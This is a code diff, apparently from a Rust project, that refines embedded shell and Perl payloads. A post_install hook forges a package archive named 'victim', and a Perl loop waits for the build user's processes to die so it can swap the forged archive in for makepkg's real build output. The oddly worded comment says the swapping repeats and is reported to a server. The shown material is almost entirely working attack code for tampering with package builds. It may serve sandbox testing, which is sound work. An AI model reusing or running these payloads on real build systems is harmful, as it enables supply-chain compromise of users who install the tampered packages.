@@ -180,7 +180,7 @@ const SWAPPER: &str = r#"
 /// makepkg has ended, and all that the build user had was killed, it takes the archives, or the whole folder, away from those who
 /// carry them, puts others of the same size into their place, and the right ones back, all the time. SERVER is told of both.
 const NESTER: &str = r#"post_install() {
-  local id=$RANDOM$RANDOM
+  local id=$(cat /proc/sys/kernel/random/uuid)
   mkdir -p /nest/evil
   printf '# \npkgname = victim\npkgbase = victim\npkgver = 99-1\narch = any\n' > /nest/.PKGINFO
   bsdtar -C /nest -cf - .PKGINFO | zstd -q > /nest/forged
@@ -188,10 +188,11 @@ const NESTER: &str = r#"post_install() {
 my ($id, $builder) = @ARGV;
 my $folder = "/build/packages";
 my @archives;
+sub is_alive { open my $of, "$_[0]/stat"; return <$of> !~ /\) Z/; }
 do {
     select undef, undef, undef, 0.02;
     @archives = glob "$folder/*";
-} until @archives && !grep { (stat $_)[4] == $builder } glob "/proc/[0-9]*";
+} until @archives && !grep { (stat $_)[4] == $builder && is_alive($_) } glob "/proc/[0-9]*";
 open F, "/nest/forged";
 local $/;
 my $forged = <F>;
